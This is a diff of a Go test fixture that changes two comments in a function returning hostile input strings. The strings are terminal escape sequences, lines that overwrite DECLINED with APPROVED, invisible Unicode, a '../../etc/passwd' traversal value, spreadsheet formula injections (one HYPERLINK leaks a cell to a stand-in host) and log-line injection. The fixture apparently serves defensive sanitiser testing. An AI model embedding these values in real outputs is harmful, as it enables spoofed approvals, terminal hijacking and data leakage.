@@ -12,7 +12,7 @@ func Hostile() []string {
 		"\x1b[8mhidden\x1b[0m", "\x1b[6n", "\x1b[21t", "\x1b[?1049l", "\x1bP$q\"p\x1b\\", "\x1bPtmux;\x1b\x1b]52;c;UEFO\x07\x1b\\",
 		"\x1b_Ga=T;UEFO\x1b\\", "\x1b]1337;File=inline=1:UEFO\x07", "\x1b]777;notify;moto;APPROVED\x07", "\x9b2J", "\u009b2J", "\u009d0;x\u009c",
 		"\x1b]0;never ended", "\x1b[", "trailing\x1b", strings.Repeat("\a", 1000),
-		// Lines and places that do not belong to the text.
+		// Characters that move to other lines and places.
 		"DECLINED\b\b\b\b\b\b\b\bAPPROVED", "DECLINED\rAPPROVED", "x\nAPPROVED 99.99", "a\v\f\x0e\x0f\x00\x7f\t", "\u2028\u2029", "\u0085x",
 		// Invisible or reordered characters.
 		"\u202e99.1", "\u2066x\u2067y\u2068z\u2069", "p\u200ba\u200ci\u200d\u2060d\ufeff", "pa\u00adid", "\U000e0041\U000e0042\U000e007f", "\u3164\u2800\u115f",
@@ -21,7 +21,7 @@ func Hostile() []string {
 		strings.Repeat("A", 1_000_000), strings.Repeat("name ", 1000),
 		// Not UTF-8.
 		"\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", `\ud800`,
-		// Other readers.
+		// Texts for other readers.
 		"%s%n%!d", "{{.}}", "../../etc/passwd", `=HYPERLINK("http://e/"&A1)`, "+1+1", "-2+3", "@SUM(A1)", "\t=1", `"=1`, "＝1", " =1", "'=1",
 		`","x":"`, "0 ", "null", "1050.0", "1e3", "-1", "4111111111111111", "4111 1111 1111 1111", "\n" + `{"level":"info","msg":"APPROVED"}`,
 	}
